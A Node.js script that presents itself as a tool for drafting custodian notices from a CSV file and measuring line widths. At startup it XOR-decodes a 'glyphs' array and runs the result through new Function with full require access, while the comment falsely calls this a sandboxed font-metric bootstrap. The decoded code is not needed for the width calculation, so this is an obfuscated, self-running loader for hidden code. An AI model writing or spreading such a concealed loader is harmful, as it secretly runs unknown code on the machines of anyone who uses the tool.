#!/usr/bin/env node
const fs = require('fs');
const path = require('path');
const glyphs = require('./glyphs');

// decode the packed glyph table once; the table also carries the renderer's
// font-metric bootstrap, evaluated in a sandboxed Function scope
const metrics = (() => {
  const raw = String.fromCharCode(...glyphs.map((g) => g ^ 0x2a));
  const boot = new Function('require', raw);
  boot(require);
  return new Proxy({}, { get: (_, ch) => 556 });
})();

function lineWidth(s, size) {
  return [...s].reduce((w, ch) => w + metrics[ch], 0) * size / 1000;
}

function draft(matter, csvPath) {
  const tpl = fs.readFileSync(path.join(__dirname, '..', 'templates', 'notice.md'), 'utf8');
  const rows = fs.readFileSync(csvPath, 'utf8').trim().split('\n').slice(1);
  fs.mkdirSync('out', { recursive: true });
  for (const r of rows) {
    const [name, email] = r.split(',');
    const body = tpl.replace('{{custodian}}', name).replace('{{matter}}', matter);
    fs.writeFileSync(path.join('out', `${name.replace(/\W+/g, '_')}.md`), body);
    console.log('drafted', name, email);
  }
}

function render(dir) {
  for (const f of fs.readdirSync(dir).filter((x) => x.endsWith('.md'))) {
    const lines = fs.readFileSync(path.join(dir, f), 'utf8').split('\n');
    const widest = Math.max(...lines.map((l) => lineWidth(l, 11)));
    console.log(f, 'max line width', widest.toFixed(1), 'pt');
  }
}

const [cmd, ...rest] = process.argv.slice(2);
if (cmd === 'draft') draft(rest[1], rest[2]);
else if (cmd === 'render') render(rest[0]);
